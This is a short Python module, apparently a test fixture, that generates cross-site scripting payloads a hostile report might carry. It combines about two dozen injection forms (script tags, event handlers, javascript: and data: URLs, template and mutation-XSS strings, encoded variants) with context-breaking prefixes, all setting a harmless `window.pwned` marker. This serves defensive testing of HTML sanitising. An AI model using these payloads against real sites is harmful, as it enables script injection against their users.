"""What a hostile report may hold in the hope that a page runs it: then `window.pwned` would be set."""

from __future__ import annotations

from itertools import product

RUN = "window.pwned=1"
WAYS = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<iframe src='javascript:{run}'></iframe>",
    "<a href='javascript:{run}'>link</a>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<form action='javascript:{run}'><button>x</button></form>",
    "<style>@import 'javascript:{run}';</style>",
    "<link rel=stylesheet href='data:text/css,*{{x:expression({run})}}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href='javascript:{run}//'>",
    "<template><img src=x onerror={run}></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "'-({run})-'",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "%3Cscript%3E{run}%3C/script%3E",
)
BEFORE = ("", '">', "'>", "</title>", "--></textarea>")
VECTORS = [before + way.format(run=RUN) for before, way in product(BEFORE, WAYS)]
